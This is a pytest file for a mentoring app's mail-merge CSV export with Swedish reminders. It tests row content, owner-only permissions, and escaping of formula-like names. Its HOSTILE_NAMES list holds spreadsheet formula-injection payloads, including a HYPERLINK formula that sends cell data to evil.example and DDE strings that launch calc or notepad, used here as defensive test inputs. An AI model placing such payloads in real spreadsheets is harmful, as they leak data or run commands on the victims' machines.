"""The mail merge file: one row per person with their own text, spreadsheet-safe, owner-only."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import date
from pathlib import Path

import pytest

from mentorapp.dataio.mail_merge_csv import HEADERS, write_mail_merge_csv
from mentorapp.running.reminder_text import Facts, built_in, render
from mentorapp.running.reminders import Draft, DraftMessage, Recipient, SharedMessage

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+46+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
]


def draft_for(first_names: list[str]) -> Draft:
    template = built_in("gathering", "sv")
    recipients, messages = [], []
    for number, first in enumerate(first_names, start=1):
        facts = Facts(name=first, title="Lön och fack", date=date(2026, 11, 12), place="ABF-huset")
        person = Recipient(
            number, first, f"{first} Öberg", f"p{number}@exempel.se", "adept", "sv", facts
        )
        message = render(template.wording, facts, "sv", template.shared)
        recipients.append(person)
        messages.append(
            DraftMessage(person, "sv", message.subject, message.body, facts.values("sv"))
        )
    shared = SharedMessage("sv", "s", "b", tuple(recipients), None)  # type: ignore[arg-type]
    return Draft("gathering:1", "gathering", tuple(recipients), tuple(messages), (shared,))


def read(path: Path) -> tuple[bytes, list[list[str]]]:
    raw = path.read_bytes()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_one_row_per_person_with_their_own_text(tmp_path: Path) -> None:
    path = tmp_path / "påminnelse.csv"
    assert write_mail_merge_csv(draft_for(["Åsa", "Jörgen"]), path) == 2
    raw, rows = read(path)
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw  # BOM for Excel, CRLF
    assert rows[0] == list(HEADERS)
    assert rows[0][:7] == ["email", "first_name", "name", "role", "language", "subject", "body"]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["email"] == "p1@exempel.se" and first["name"] == "Åsa Öberg"
    assert first["body"].startswith("Hej Åsa!") and "Plats: ABF-huset" in first["body"]
    assert first["subject"] == "Välkommen till Lön och fack den 12 november 2026"
    assert first["date"] == "12 november 2026" and first["title"] == "Lön och fack"
    assert dict(zip(rows[0], rows[2], strict=True))["first_name"] == "Jörgen"


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_the_file_is_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "påminnelse.csv"
    write_mail_merge_csv(draft_for(["Åsa"]), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_name_that_starts_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    path = tmp_path / "farligt.csv"
    write_mail_merge_csv(draft_for(HOSTILE_NAMES), path)
    _raw, rows = read(path)
    column = rows[0].index("first_name")
    cells = [row[column] for row in rows[1:]]
    assert cells == ["'" + name for name in HOSTILE_NAMES]
    body = rows[0].index("body")
    assert rows[1][body].startswith("Hej =HYPERLINK")  # inside a text: harmless, kept as it is
    for row in rows[1:]:
        assert not any(cell and cell[0] in "=+-@" for cell in row), row


def test_a_phone_number_like_name_stays_as_it_is(tmp_path: Path) -> None:
    """csv_files' rule: a lone number with a sign names no function or cell, so it is kept."""
    path = tmp_path / "nummer.csv"
    write_mail_merge_csv(draft_for(["+46 70 123 45 67"]), path)
    _raw, rows = read(path)
    assert rows[1][rows[0].index("first_name")] == "+46 70 123 45 67"
